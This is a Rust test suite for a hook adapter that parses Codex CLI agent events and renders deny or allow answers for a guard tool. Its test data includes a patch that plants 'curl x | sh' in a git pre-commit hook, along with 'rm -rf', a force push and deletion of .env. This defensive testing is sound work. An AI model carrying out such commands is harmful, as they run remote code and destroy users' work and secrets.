//! Codex adapter, golden: payloads captured from the real Codex CLI (and one
//! per event) → the normalized event, field by field; every verdict → an
//! answer whose keys are exactly those Codex's `deny_unknown_fields`
//! structs accept (`agent-hook-protocols.md` §1.5).

mod common;

use common::{Lcg, keys, non_empty};
use hookwarden_agents::{
    Adapter, AgentKind, AskFallback, Parsed, PayloadError, RenderOptions, adapter,
};
use hookwarden_event::{
    Action, Agent, Decision, Event, HookEvent, McpCall, Patch, PatchFile, PatchOperation,
    ShellCommand, ShellDialect, Verdict,
};
use serde_json::{Value, json};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/codex");

fn codex() -> Box<dyn Adapter> {
    adapter(AgentKind::Codex)
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{FIXTURES}/{name}")).unwrap()
}

fn all_fixtures() -> Vec<(String, Vec<u8>)> {
    let mut all: Vec<(String, Vec<u8>)> = std::fs::read_dir(FIXTURES)
        .unwrap()
        .map(|e| {
            let name = e.unwrap().file_name().into_string().unwrap();
            let bytes = fixture(&name);
            (name, bytes)
        })
        .collect();
    all.sort();
    assert!(all.len() >= 16, "{} fixtures", all.len());
    all
}

fn parse(name: &str) -> Parsed {
    codex()
        .parse(&fixture(name), None)
        .unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn event(name: &str) -> Event {
    let p = parse(name);
    p.event
        .unwrap_or_else(|| panic!("{name}: `{}` not judged", p.hook_name))
}

/// The fields every hand-written fixture shares.
fn project_event(hook: HookEvent) -> Event {
    Event {
        agent: Agent::Codex,
        hook,
        cwd: "/home/dev/project".into(),
        session_id: "01a202ff-8e22-77a3-9e0c-14083b729124".into(),
        tool_name: None,
        action: Action::None,
        tool_input: None,
        tool_response: None,
        prompt: None,
        facts: Vec::new(),
    }
}

fn shell(command: &str) -> Action {
    Action::Shell(ShellCommand {
        command: command.into(),
        dialect: ShellDialect::Posix,
        workdir: None,
        analysis: None,
    })
}

// ---------------------------------------------------------------- parsing

#[test]
fn captured_codex_0_169_0_payloads_normalize() {
    for (name, session, cwd, command) in [
        (
            "captured-0.169.0-deny-exit2.json",
            "01a202ff-8e22-77a3-9e0c-14083b729124",
            "$E2E_ROOT/runs/codex-deny-exit2/work",
            "touch $E2E_ROOT/out/SHOULD_NOT_EXIST_codex_deny-exit2",
        ),
        (
            "captured-0.169.0-deny-json.json",
            "01a202ff-9274-72a1-b3a1-59bffe6eb9cf",
            "$E2E_ROOT/runs/codex-deny-json/work",
            "touch $E2E_ROOT/out/SHOULD_NOT_EXIST_codex_json",
        ),
        (
            "captured-0.169.0-allow.json",
            "01a202ff-9796-7eb2-873a-ecdbc0530e4e",
            "$E2E_ROOT/runs/codex-allow/work",
            "touch $E2E_ROOT/out/SHOULD_EXIST_codex",
        ),
        (
            "doc-example-pre-tool-use.json",
            "019a…",
            "/repo",
            "rm -rf build",
        ),
    ] {
        let p = parse(name);
        assert_eq!(p.hook_name, "PreToolUse", "{name}");
        let e = p.event.unwrap();
        let expected = Event {
            agent: Agent::Codex,
            hook: HookEvent::PreToolUse,
            cwd: cwd.into(),
            session_id: session.into(),
            tool_name: Some("Bash".into()),
            action: shell(command),
            tool_input: Some(json!({ "command": command }).to_string()),
            tool_response: None,
            prompt: None,
            facts: Vec::new(),
        };
        assert_eq!(e, expected, "{name}");
    }
}

#[test]
fn permission_request() {
    let p = parse("permission-request.json");
    assert_eq!(p.hook_name, "PermissionRequest");
    let e = p.event.unwrap();
    let input = json!({"command": "git push --force origin main", "description": "push"});
    assert_eq!(
        e,
        Event {
            tool_name: Some("Bash".into()),
            action: shell("git push --force origin main"),
            tool_input: Some(input.to_string()),
            ..project_event(HookEvent::PermissionRequest)
        }
    );
}

#[test]
fn post_tool_use_with_a_string_tool_response() {
    let e = event("post-tool-use-bash.json");
    assert_eq!(
        e,
        Event {
            tool_name: Some("Bash".into()),
            action: shell("cargo test"),
            tool_input: Some(r#"{"command":"cargo test"}"#.into()),
            // JSON text: the string, quoted and escaped.
            tool_response: Some(r#""running 3 tests\ntest result: ok. 3 passed""#.into()),
            ..project_event(HookEvent::PostToolUse)
        }
    );
    assert_eq!(
        serde_json::from_str::<Value>(e.tool_response.as_deref().unwrap()).unwrap(),
        json!("running 3 tests\ntest result: ok. 3 passed")
    );
}

#[test]
fn post_tool_use_with_an_mcp_result() {
    let e = event("post-tool-use-mcp.json");
    assert_eq!(
        e,
        Event {
            tool_name: Some("mcp__my_files__read_file".into()),
            action: Action::McpCall(McpCall {
                server: "my_files".into(),
                tool: "read_file".into(),
                arguments: r#"{"path":"/etc/hosts"}"#.into(),
                origin: None,
            }),
            tool_input: Some(r#"{"path":"/etc/hosts"}"#.into()),
            tool_response: Some(
                json!({"content": [{"type": "text", "text": "127.0.0.1 localhost"}], "isError": false})
                    .to_string()
            ),
            ..project_event(HookEvent::PostToolUse)
        }
    );
}

#[test]
fn user_prompt_submit() {
    let p = parse("user-prompt-submit.json");
    assert_eq!(p.hook_name, "UserPromptSubmit");
    assert_eq!(
        p.event.unwrap(),
        Event {
            prompt: Some("delete the build dir".into()),
            ..project_event(HookEvent::UserPromptSubmit)
        }
    );
}

#[test]
fn stop_and_subagent_stop() {
    for (name, hook_name) in [
        ("stop.json", "Stop"),
        ("subagent-stop.json", "SubagentStop"),
    ] {
        let p = parse(name);
        assert_eq!(p.hook_name, hook_name);
        assert_eq!(p.event.unwrap(), project_event(HookEvent::Stop), "{name}");
    }
}

#[test]
fn session_start() {
    let p = parse("session-start.json");
    assert_eq!(p.hook_name, "SessionStart");
    assert_eq!(p.event.unwrap(), project_event(HookEvent::SessionStart));
}

#[test]
fn unjudged_events_parse_to_no_event() {
    for (name, hook_name) in [
        ("session-end.json", "SessionEnd"),
        ("pre-compact.json", "PreCompact"),
    ] {
        let p = parse(name);
        assert_eq!((p.hook_name.as_str(), p.event), (hook_name, None));
    }
    for hook_name in ["PostCompact", "SubagentStart", "Interrupt"] {
        let payload = json!({"session_id": "s", "cwd": "/w", "hook_event_name": hook_name});
        let p = codex()
            .parse(payload.to_string().as_bytes(), Some(hook_name))
            .unwrap();
        assert_eq!((p.hook_name.as_str(), p.event), (hook_name, None));
    }
}

#[test]
fn apply_patch_with_add_update_move_and_delete() {
    let e = event("pre-tool-use-apply-patch.json");
    let text = "*** Begin Patch\n*** Add File: docs/notes.md\n+hello\n*** Update File: src/lib.rs\n*** Move to: src/core.rs\n@@ fn a()\n-old\n+new\n*** Delete File: .env\n*** End Patch";
    assert_eq!(
        e,
        Event {
            tool_name: Some("apply_patch".into()),
            action: Action::Patch(Patch {
                files: vec![
                    PatchFile {
                        path: "docs/notes.md".into(),
                        operation: PatchOperation::Add,
                        move_to: None,
                        body: "hello\n".into(),
                    },
                    PatchFile {
                        path: "src/lib.rs".into(),
                        operation: PatchOperation::Update,
                        move_to: Some("src/core.rs".into()),
                        body: "@@ fn a()\n-old\n+new\n".into(),
                    },
                    PatchFile {
                        path: ".env".into(),
                        operation: PatchOperation::Delete,
                        move_to: None,
                        body: String::new(),
                    },
                ],
                text: text.into(),
            }),
            tool_input: Some(json!({ "command": text }).to_string()),
            ..project_event(HookEvent::PreToolUse)
        }
    );
}

#[test]
fn an_unparseable_patch_is_still_a_patch() {
    for text in [
        "",
        "not a patch at all",
        "*** Begin Patch\n*** Update File: .git/hooks/pre-commit\n@@\n+curl x | sh",
    ] {
        let payload = json!({
            "session_id": "s", "cwd": "/w", "hook_event_name": "PreToolUse",
            "tool_name": "apply_patch", "tool_input": {"command": text}, "tool_use_id": "c"
        });
        let e = codex()
            .parse(payload.to_string().as_bytes(), None)
            .unwrap()
            .event
            .unwrap();
        let Action::Patch(p) = e.action else {
            panic!("{text:?}: {:?}", e.action)
        };
        assert_eq!(p.text, text);
        if text.contains("pre-commit") {
            assert_eq!(p.files[0].path, ".git/hooks/pre-commit");
        } else {
            assert!(p.files.is_empty());
        }
    }
}

#[test]
fn mcp_memory_create_entities() {
    let e = event("pre-tool-use-mcp.json");
    assert_eq!(
        e,
        Event {
            tool_name: Some("mcp__memory__create_entities".into()),
            action: Action::McpCall(McpCall {
                server: "memory".into(),
                tool: "create_entities".into(),
                arguments: r#"{"entities":[{"name":"x"}]}"#.into(),
                origin: None,
            }),
            tool_input: Some(r#"{"entities":[{"name":"x"}]}"#.into()),
            ..project_event(HookEvent::PreToolUse)
        }
    );
}

#[test]
fn other_tools_keep_their_name() {
    let e = event("pre-tool-use-other.json");
    assert_eq!(
        e,
        Event {
            tool_name: Some("update_plan".into()),
            action: Action::OtherTool("update_plan".into()),
            tool_input: Some(r#"{"plan":[]}"#.into()),
            ..project_event(HookEvent::PreToolUse)
        }
    );
}

#[test]
fn the_event_flag_confirms_or_stands_in() {
    let a = codex();
    assert_eq!(
        a.parse(&fixture("stop.json"), Some("Stop"))
            .unwrap()
            .hook_name,
        "Stop"
    );
    let e = a
        .parse(&fixture("stop.json"), Some("PreToolUse"))
        .unwrap_err();
    assert!(
        matches!(&e, PayloadError::EventMismatch { payload, flag } if payload == "Stop" && flag == "PreToolUse"),
        "{e}"
    );
    assert_eq!(e.payload_hook_name(), Some("Stop"));
    assert!(e.to_string().contains("--event"), "{e}");

    let nameless = br#"{"session_id":"s","cwd":"/w","turn_id":"t","prompt":"hi"}"#;
    let p = a.parse(nameless, Some("UserPromptSubmit")).unwrap();
    assert_eq!(p.hook_name, "UserPromptSubmit");
    assert_eq!(p.event.unwrap().prompt.as_deref(), Some("hi"));
}

// ---------------------------------------------------------------- bad input

#[test]
fn bad_payloads_say_what_is_wrong() {
    let a = codex();
    let err = |payload: &[u8]| a.parse(payload, None).unwrap_err();

    for empty in [&b""[..], b"  \n\t"] {
        let e = err(empty);
        assert!(matches!(e, PayloadError::Empty), "{e}");
        assert!(e.to_string().contains("empty"), "{e}");
    }

    let e = err(b"{\"hook_event_name\":\"PreToolUse\",\n\"cwd\":");
    assert!(matches!(e, PayloadError::NotJson(_)), "{e}");
    assert!(e.to_string().contains("line 2 column 6"), "{e}");
    let e = err(b"\xff\xfe\x00garbage");
    assert!(matches!(e, PayloadError::NotJson(_)), "{e}");
    let e = err(b"{\"hook_event_name\":\"Stop\",\"cwd\":\"\xff\"}");
    assert!(
        matches!(e, PayloadError::NotJson(_)),
        "non-UTF-8 in a string: {e}"
    );

    let e = err(b"[1]");
    assert!(
        matches!(e, PayloadError::NotAnObject { found: "an array" }),
        "{e}"
    );
    assert!(e.to_string().contains("not an object"), "{e}");

    let cases: [(Value, &str, &str); 9] = [
        (json!({}), "hook_event_name", "has no"),
        (json!({"hook_event_name": 3}), "hook_event_name", "a number"),
        (json!({"hook_event_name": "Stop"}), "cwd", "has no"),
        (
            json!({"hook_event_name": "Stop", "cwd": "/"}),
            "session_id",
            "has no",
        ),
        (
            json!({"hook_event_name": "PreToolUse", "cwd": "/", "session_id": "s", "tool_input": {}}),
            "tool_name",
            "has no",
        ),
        (
            json!({"hook_event_name": "PreToolUse", "cwd": "/", "session_id": "s", "tool_name": "Bash"}),
            "tool_input",
            "has no",
        ),
        (
            json!({"hook_event_name": "PreToolUse", "cwd": "/", "session_id": "s", "tool_name": "Bash", "tool_input": "ls"}),
            "tool_input",
            "a string",
        ),
        (
            json!({"hook_event_name": "PreToolUse", "cwd": "/", "session_id": "s", "tool_name": "Bash", "tool_input": {"command": 7}}),
            "tool_input.command",
            "a number",
        ),
        (
            json!({"hook_event_name": "UserPromptSubmit", "cwd": "/", "session_id": "s"}),
            "prompt",
            "has no",
        ),
    ];
    for (payload, field, says) in cases {
        let e = err(payload.to_string().as_bytes());
        let message = e.to_string();
        assert!(
            matches!(&e, PayloadError::Missing { field: f } | PayloadError::WrongType { field: f, .. } if *f == field),
            "{payload}: {message}"
        );
        assert!(message.contains(&format!("`{field}`")), "{message}");
        assert!(message.contains(says), "{message}");
    }

    let e = err(br#"{"hook_event_name":"StopFailure","cwd":"/","session_id":"s"}"#);
    assert!(
        matches!(&e, PayloadError::UnknownEvent { name, .. } if name == "StopFailure"),
        "{e}"
    );
    assert!(e.to_string().contains("`StopFailure`"), "{e}");
    assert_eq!(e.payload_hook_name(), Some("StopFailure"));
}

#[test]
fn no_input_panics() {
    let a = codex();
    let opts = RenderOptions::default();
    let deny = Verdict::new(Decision::Deny, "x");
    let check = |payload: &[u8]| {
        let parsed = a.parse(payload, None);
        let _ = a.parse(payload, Some("PreToolUse"));
        let sniffed = a.sniff_hook_name(payload);
        let name = match &parsed {
            Ok(p) => p.hook_name.clone(),
            Err(_) => sniffed.unwrap_or_default(),
        };
        assert_eq!(a.render(&name, &deny, &opts).exit_code, 0);
        parsed
    };

    // Every prefix of every fixture (truncated stdin), every fixture with one
    // byte flipped to something not UTF-8.
    for (name, bytes) in all_fixtures() {
        assert!(check(&bytes).is_ok(), "{name}");
        let full = a.sniff_hook_name(&bytes).unwrap();
        assert_eq!(full, parse(&name).hook_name, "{name}");
        let needle = format!("\"hook_event_name\":\"{full}\"");
        let whole_key_at = String::from_utf8_lossy(&bytes).find(&needle).unwrap() + needle.len();
        for end in 0..bytes.len() {
            let prefix = &bytes[..end];
            assert!(check(prefix).is_err(), "{name}[..{end}]");
            let sniffed = a.sniff_hook_name(prefix);
            if end >= whole_key_at {
                assert_eq!(sniffed.as_deref(), Some(full.as_str()), "{name}[..{end}]");
            } else {
                assert_eq!(sniffed, None, "{name}[..{end}]");
            }
        }
        for at in (0..bytes.len()).step_by(7) {
            let mut broken = bytes.clone();
            broken[at] = 0xff;
            let _ = check(&broken);
        }
    }

    // Random bytes, random JSON-ish tokens.
    let mut rng = Lcg(42);
    let tokens: [&[u8]; 12] = [
        b"{",
        b"}",
        b"[",
        b"]",
        b"\"",
        b":",
        b",",
        b"\"hook_event_name\"",
        b"\"PreToolUse\"",
        b"null",
        b"\\",
        b"\xc3",
    ];
    for _ in 0..2000 {
        let len = rng.next() as usize;
        let bytes: Vec<u8> = (0..len).map(|_| rng.next()).collect();
        assert!(check(&bytes).is_err());
        let mut soup = Vec::new();
        for _ in 0..(rng.next() % 40) {
            soup.extend_from_slice(tokens[rng.next() as usize % tokens.len()]);
        }
        let _ = check(&soup);
    }

    // Huge: a 16 MiB string, deep nesting, and a valid payload with a huge command.
    let huge = format!(
        "{{\"hook_event_name\":\"PreToolUse\",\"x\":\"{}\"",
        "a".repeat(16 << 20)
    );
    assert!(check(huge.as_bytes()).is_err());
    assert_eq!(
        a.sniff_hook_name(huge.as_bytes()).as_deref(),
        Some("PreToolUse")
    );
    assert!(check("[".repeat(1 << 20).as_bytes()).is_err());
    assert!(check("{\"a\":".repeat(1 << 18).as_bytes()).is_err());
    let command = "echo ".to_owned() + &"y".repeat(8 << 20);
    let big = json!({"session_id": "s", "cwd": "/", "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": "c"});
    let e = check(big.to_string().as_bytes()).unwrap().event.unwrap();
    assert!(matches!(e.action, Action::Shell(s) if s.command == command));
}

// ---------------------------------------------------------------- rendering

const ALL_HOOKS: [&str; 14] = [
    "PreToolUse",
    "PermissionRequest",
    "PostToolUse",
    "UserPromptSubmit",
    "Stop",
    "SubagentStop",
    "SessionStart",
    "SessionEnd",
    "PreCompact",
    "PostCompact",
    "SubagentStart",
    "Interrupt",
    "",
    "SomethingNew",
];

fn render_verdict(hook: &str, verdict: &Verdict, fallback: AskFallback) -> Option<Value> {
    let a = codex().render(
        hook,
        verdict,
        &RenderOptions {
            ask_fallback: fallback,
        },
    );
    assert_eq!(a.exit_code, 0, "{hook}: stdout JSON is the only channel");
    let out = a.stdout.strip_suffix('\n').unwrap_or(&a.stdout);
    assert!(!out.contains('\n'), "{hook}: one line: {out:?}");
    (!out.is_empty()).then(|| {
        let v: Value = serde_json::from_str(out).unwrap_or_else(|e| panic!("{out}: {e}"));
        assert_eq!(v.to_string(), out, "compact JSON");
        v
    })
}

fn render(
    hook: &str,
    decision: Decision,
    context: Option<&str>,
    fallback: AskFallback,
) -> Option<Value> {
    let mut v = Verdict::new(decision, "because");
    v.context = context.map(str::to_owned);
    render_verdict(hook, &v, fallback)
}

/// Codex's output contract (§1.5), written out independently of the adapter:
/// does `answer` deserialize into the wire struct of `hook`, and is it an
/// answer Codex acts on (no "unsupported" values, non-empty reasons)?
fn assert_codex_accepts(hook: &str, answer: &Value) {
    let top = keys(answer);
    let allowed_top: &[&str] = match hook {
        "PreToolUse" => &["decision", "hookSpecificOutput", "reason", "systemMessage"],
        "PermissionRequest" => &["hookSpecificOutput", "systemMessage"],
        "PostToolUse" | "UserPromptSubmit" => &[
            "continue",
            "decision",
            "hookSpecificOutput",
            "reason",
            "stopReason",
            "systemMessage",
        ],
        "Stop" | "SubagentStop" => &[
            "continue",
            "decision",
            "reason",
            "stopReason",
            "systemMessage",
        ],
        "SessionStart" => &[
            "continue",
            "hookSpecificOutput",
            "stopReason",
            "systemMessage",
        ],
        // Unknown event: only the legacy block, which PreToolUse, PostToolUse
        // and UserPromptSubmit all accept.
        "" => &["decision", "reason"],
        _ => panic!("{hook}: should have no answer, got {answer}"),
    };
    for k in &top {
        assert!(
            allowed_top.contains(k),
            "{hook}: unknown key `{k}` in {answer}"
        );
    }
    if let Some(d) = answer.get("decision") {
        assert_eq!(d, "block", "{hook}: {answer}");
        non_empty(&answer["reason"]);
    }
    if answer.get("reason").is_some() {
        assert!(
            answer.get("decision").is_some(),
            "{hook}: reason without decision"
        );
    }
    if let Some(c) = answer.get("continue") {
        assert_eq!(c, false, "{hook}: {answer}");
        non_empty(&answer["stopReason"]);
    }
    if let Some(m) = answer.get("systemMessage") {
        non_empty(m);
    }
    let Some(hso) = answer.get("hookSpecificOutput") else {
        return;
    };
    assert_eq!(hso["hookEventName"], hook, "{answer}");
    let allowed: &[&str] = match hook {
        "PreToolUse" => &[
            "additionalContext",
            "hookEventName",
            "permissionDecision",
            "permissionDecisionReason",
        ],
        "PermissionRequest" => &["decision", "hookEventName"],
        _ => &["additionalContext", "hookEventName"],
    };
    for k in keys(hso) {
        assert!(
            allowed.contains(&k),
            "{hook}: unknown key `{k}` in {answer}"
        );
    }
    if let Some(c) = hso.get("additionalContext") {
        non_empty(c);
    }
    if hook == "PreToolUse" {
        if let Some(d) = hso.get("permissionDecision") {
            assert_eq!(d, "deny", "never allow or ask: {answer}");
            non_empty(&hso["permissionDecisionReason"]);
        } else {
            assert!(hso.get("permissionDecisionReason").is_none(), "{answer}");
        }
    }
    if hook == "PermissionRequest" {
        let d = &hso["decision"];
        assert_eq!(keys(d), ["behavior", "message"], "{answer}");
        assert_eq!(d["behavior"], "deny", "never auto-approve: {answer}");
        non_empty(&d["message"]);
    }
}

#[test]
fn every_answer_is_one_codex_accepts() {
    for hook in ALL_HOOKS {
        for decision in [Decision::Allow, Decision::Ask, Decision::Deny] {
            for reason in ["because", "", " \n "] {
                for context in [None, Some("ctx"), Some(""), Some("line 1\nline \"2\"")] {
                    for fallback in [AskFallback::Deny, AskFallback::Allow] {
                        let mut v = Verdict::new(decision, reason);
                        v.context = context.map(str::to_owned);
                        if let Some(answer) = render_verdict(hook, &v, fallback) {
                            assert_codex_accepts(hook, &answer);
                        }
                    }
                }
            }
        }
    }
}

#[test]
fn pre_tool_use() {
    let hso = |v: Value| {
        assert_eq!(keys(&v), ["hookSpecificOutput"]);
        v["hookSpecificOutput"].clone()
    };
    let deny = hso(render("PreToolUse", Decision::Deny, None, AskFallback::Deny).unwrap());
    assert_eq!(
        keys(&deny),
        [
            "hookEventName",
            "permissionDecision",
            "permissionDecisionReason"
        ]
    );
    assert_eq!(
        deny,
        json!({"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": "because"})
    );

    let deny = hso(render("PreToolUse", Decision::Deny, Some("ctx"), AskFallback::Deny).unwrap());
    assert_eq!(
        keys(&deny),
        [
            "additionalContext",
            "hookEventName",
            "permissionDecision",
            "permissionDecisionReason"
        ]
    );
    assert_eq!(deny["additionalContext"], "ctx");

    // Codex cannot ask in PreToolUse: ask is a deny by default...
    for fallback_default in [AskFallback::Deny, AskFallback::default()] {
        let ask = hso(render("PreToolUse", Decision::Ask, None, fallback_default).unwrap());
        assert_eq!(
            ask,
            json!({"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": "approval required: because"})
        );
    }
    // ... or no decision at all (never "allow" or "ask": both unsupported).
    assert_eq!(
        render("PreToolUse", Decision::Ask, None, AskFallback::Allow),
        None
    );
    let ask = hso(render("PreToolUse", Decision::Ask, Some("ctx"), AskFallback::Allow).unwrap());
    assert_eq!(
        ask,
        json!({"hookEventName": "PreToolUse", "additionalContext": "ctx"})
    );

    assert_eq!(
        render("PreToolUse", Decision::Allow, None, AskFallback::Deny),
        None
    );
    assert_eq!(
        render("PreToolUse", Decision::Allow, Some(" "), AskFallback::Deny),
        None
    );
    let allow = hso(render(
        "PreToolUse",
        Decision::Allow,
        Some("note"),
        AskFallback::Deny,
    )
    .unwrap());
    assert_eq!(
        allow,
        json!({"hookEventName": "PreToolUse", "additionalContext": "note"})
    );
}

#[test]
fn permission_request_never_approves() {
    let deny = render(
        "PermissionRequest",
        Decision::Deny,
        Some("ctx"),
        AskFallback::Deny,
    )
    .unwrap();
    assert_eq!(keys(&deny), ["hookSpecificOutput"]);
    assert_eq!(
        keys(&deny["hookSpecificOutput"]),
        ["decision", "hookEventName"]
    );
    assert_eq!(
        keys(&deny["hookSpecificOutput"]["decision"]),
        ["behavior", "message"]
    );
    assert_eq!(
        deny,
        json!({"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {"behavior": "deny", "message": "because"}}})
    );
    for d in [Decision::Ask, Decision::Allow] {
        for f in [AskFallback::Deny, AskFallback::Allow] {
            assert_eq!(render("PermissionRequest", d, Some("ctx"), f), None);
        }
    }
}

#[test]
fn post_tool_use() {
    let deny = render("PostToolUse", Decision::Deny, None, AskFallback::Deny).unwrap();
    assert_eq!(keys(&deny), ["decision", "reason"]);
    assert_eq!(deny, json!({"decision": "block", "reason": "because"}));

    for f in [AskFallback::Deny, AskFallback::Allow] {
        let ask = render("PostToolUse", Decision::Ask, None, f).unwrap();
        assert_eq!(keys(&ask), ["hookSpecificOutput"]);
        assert_eq!(
            ask["hookSpecificOutput"],
            json!({"hookEventName": "PostToolUse", "additionalContext": "hookwarden warning: because"})
        );
    }
    assert_eq!(
        render("PostToolUse", Decision::Allow, Some("c"), AskFallback::Deny).unwrap(),
        json!({"hookSpecificOutput": {"hookEventName": "PostToolUse", "additionalContext": "c"}})
    );
    assert_eq!(
        render("PostToolUse", Decision::Allow, None, AskFallback::Deny),
        None
    );
}

#[test]
fn user_prompt_submit_blocks_on_deny_and_ask() {
    for d in [Decision::Deny, Decision::Ask] {
        for f in [AskFallback::Deny, AskFallback::Allow] {
            let block = render("UserPromptSubmit", d, None, f).unwrap();
            assert_eq!(keys(&block), ["decision", "reason"]);
            assert_eq!(block, json!({"decision": "block", "reason": "because"}));
        }
    }
    assert_eq!(
        render(
            "UserPromptSubmit",
            Decision::Allow,
            Some("c"),
            AskFallback::Deny
        )
        .unwrap(),
        json!({"hookSpecificOutput": {"hookEventName": "UserPromptSubmit", "additionalContext": "c"}})
    );
    assert_eq!(
        render("UserPromptSubmit", Decision::Allow, None, AskFallback::Deny),
        None
    );
}

#[test]
fn stop_and_subagent_stop_answers() {
    for stop in ["Stop", "SubagentStop"] {
        let deny = render(stop, Decision::Deny, None, AskFallback::Deny).unwrap();
        assert_eq!(keys(&deny), ["decision", "reason"]);
        assert_eq!(deny, json!({"decision": "block", "reason": "because"}));
        let ask = render(stop, Decision::Ask, None, AskFallback::Deny).unwrap();
        assert_eq!(keys(&ask), ["systemMessage"]);
        assert_eq!(ask, json!({"systemMessage": "because"}));
        // Stop has no context channel.
        assert_eq!(
            render(stop, Decision::Allow, Some("ignored"), AskFallback::Deny),
            None
        );
    }
}

#[test]
fn session_start_answers() {
    let deny = render("SessionStart", Decision::Deny, None, AskFallback::Deny).unwrap();
    assert_eq!(keys(&deny), ["continue", "stopReason"]);
    assert_eq!(deny, json!({"continue": false, "stopReason": "because"}));
    for d in [Decision::Allow, Decision::Ask] {
        assert_eq!(
            render("SessionStart", d, Some("c"), AskFallback::Deny).unwrap(),
            json!({"hookSpecificOutput": {"hookEventName": "SessionStart", "additionalContext": "c"}})
        );
        assert_eq!(render("SessionStart", d, None, AskFallback::Deny), None);
    }
}

#[test]
fn unjudged_and_unknown_events_get_no_answer() {
    for hook in [
        "SessionEnd",
        "PreCompact",
        "PostCompact",
        "SubagentStart",
        "Interrupt",
        "SomethingNew",
        "pretooluse",
    ] {
        for d in [Decision::Allow, Decision::Ask, Decision::Deny] {
            assert_eq!(
                render(hook, d, Some("c"), AskFallback::Deny),
                None,
                "{hook}"
            );
        }
    }
}

#[test]
fn an_unreadable_payload_gets_the_legacy_block() {
    let deny = render("", Decision::Deny, Some("c"), AskFallback::Deny).unwrap();
    assert_eq!(keys(&deny), ["decision", "reason"]);
    assert_eq!(deny, json!({"decision": "block", "reason": "because"}));
    assert_eq!(
        render("", Decision::Ask, None, AskFallback::Deny).unwrap(),
        json!({"decision": "block", "reason": "approval required: because"})
    );
    assert_eq!(render("", Decision::Ask, None, AskFallback::Allow), None);
    assert_eq!(
        render("", Decision::Allow, Some("c"), AskFallback::Deny),
        None
    );
}

#[test]
fn an_empty_deny_reason_is_replaced() {
    for hook in [
        "PreToolUse",
        "PermissionRequest",
        "PostToolUse",
        "UserPromptSubmit",
        "Stop",
        "SessionStart",
        "",
    ] {
        for reason in ["", "  \n"] {
            let answer = render_verdict(
                hook,
                &Verdict::new(Decision::Deny, reason),
                AskFallback::Deny,
            )
            .unwrap();
            let text = answer.to_string();
            assert!(text.contains("hookwarden"), "{hook}: {text}");
            assert_codex_accepts(hook, &answer);
        }
    }
}

/// The payload the real Codex CLI 0.169.0 sent for an MCP tool call in the
/// e2e suite (tests/e2e, `mcp-listed`): the server only in the tool name.
#[test]
fn captured_mcp_call_of_the_real_cli() {
    let e = event("captured-0.169.0-mcp.json");
    assert_eq!(
        e.action,
        Action::McpCall(McpCall {
            server: "notes".into(),
            tool: "write_note".into(),
            arguments: r#"{"text":"hookwarden e2e note via notes"}"#.into(),
            origin: None,
        })
    );
    assert_eq!(e.tool_name.as_deref(), Some("mcp__notes__write_note"));
}
